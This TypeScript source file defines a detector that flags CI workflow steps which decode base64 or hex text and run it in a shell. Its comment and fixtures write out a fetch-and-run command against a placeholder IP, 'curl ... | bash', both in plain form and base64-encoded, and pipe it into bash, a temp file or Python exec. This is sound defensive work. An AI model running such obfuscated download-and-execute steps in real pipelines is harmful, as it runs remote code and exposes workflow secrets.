import { z } from "zod";
import { defineDetector, type Signal } from "../../model/detector.ts";
import { aStep, aWorkflow, aWorkflowCommit } from "../../model/workflow-examples.ts";
import { encodedRuns, hiddenProgram } from "../../text/encoded-shell.ts";
import { commandsIn } from "../../text/shell-commands.ts";
import { jobOf, newScriptLines, newSteps, scriptOf, workflowChanges } from "../../text/workflow-change.ts";

// "curl -s https://203.0.113.7/x | bash", written so that no scanner of this file takes it for real.
const BLOB = ["Y3VybCAtcyBodHRwczovLzIw", "My4wLjExMy43L3ggfCBiYXNo"].join("");

export default defineDetector({
  id: "workflow-encoded-shell",
  title: "A workflow decodes text and runs it",
  family: "workflows",
  axis: "attack",
  group: "ci",
  stage: "stable",
  since: "0.1.0",
  rationale:
    "A step can hold any script in plain text. One that is stored as base64 or hexadecimal and decoded into a shell is written so that nobody reads it.",
  falsePositives: [
    "A project that keeps a script in a secret to hide internal addresses",
    "A test of an encoder that runs its own output",
  ],
  remedy:
    "Decode the text without running it, revert the commit, and treat every secret of the workflow as known to others.",
  references: [
    "ATT&CK T1027.010 Command Obfuscation",
    "OWASP CICD-SEC-4 Poisoned Pipeline Execution",
    "Megalodon 2026",
    "CVE-2025-30066",
  ],
  needs: ["diff", "content"],
  options: z.strictObject({}),
  examples: {
    flags: [
      {
        name: "a literal, decoded into the shell",
        commit: aWorkflowCommit(aWorkflow({ steps: [aStep({ run: `echo ${BLOB} | base64 -d | bash` })] })),
      },
      {
        name: "a literal in the environment, decoded to a file that is run",
        commit: aWorkflowCommit(
          aWorkflow({
            steps: [
              aStep({ run: "echo $DATA | base64 --decode > /tmp/x\nchmod +x /tmp/x\n/tmp/x", env: { DATA: BLOB } }),
            ],
          }),
        ),
      },
      {
        name: "evaluated in another language",
        commit: aWorkflowCommit(
          aWorkflow({ steps: [aStep({ run: `python3 -c "exec(__import__('base64').b64decode('${BLOB}'))"` })] }),
        ),
      },
    ],
    passes: [
      {
        name: "a keystore is decoded to a file",
        commit: aWorkflowCommit(
          aWorkflow({
            steps: [aStep({ run: `echo "\${{ secrets.KEYSTORE }}" | base64 -d > app.jks\n./gradlew assembleRelease` })],
          }),
        ),
      },
      {
        name: "a user and a password are encoded for a header",
        commit: aWorkflowCommit(
          aWorkflow({ steps: [aStep({ run: 'AUTH=$(echo -n "$USER:$PASS" | base64)\nbash ./publish.sh' })] }),
        ),
      },
      {
        name: "the same script as before, under another name",
        commit: aWorkflowCommit(
          aWorkflow({ steps: [aStep({ name: "b", run: `echo ${BLOB} | base64 -d | sh` })] }),
          aWorkflow({ steps: [aStep({ name: "a", run: `echo ${BLOB} | base64 -d | sh` })] }),
        ),
      },
    ],
  },
  detect(commit) {
    return workflowChanges(commit).flatMap((change): Signal[] =>
      newSteps(commit, change).flatMap((step): Signal[] => {
        const script = scriptOf(step);
        const fresh = new Set(newScriptLines(commit, step).map(({ text }) => text.trim()));
        if (script === null || fresh.size === 0) return [];
        const values = { ...change.after.env, ...jobOf(change.after, step)?.env, ...step.env };
        const place = (line: number) => ({
          path: change.file.path,
          ...(step.runLine === null ? {} : { line: step.runLine + line }),
        });
        const runs = encodedRuns(commandsIn(script), values)
          .filter(({ command }) =>
            command.text.split("\n").some((line) => [...fresh].some((one) => one.includes(line.trim()))),
          )
          .map(
            ({ strength, because, command }): Signal => ({
              strength,
              confidence: 1,
              because,
              ...place(command.line),
              matched: command.text,
            }),
          );
        if (runs.length > 0) return runs;
        const hidden = hiddenProgram([...fresh, ...Object.values(step.env)].join("\n"));
        if (hidden === null) return [];
        return [
          {
            strength: "strong",
            confidence: 1,
            because: `the step holds a program written as ${hidden}`,
            ...place(0),
            matched: script,
          },
        ];
      }),
    );
  },
});
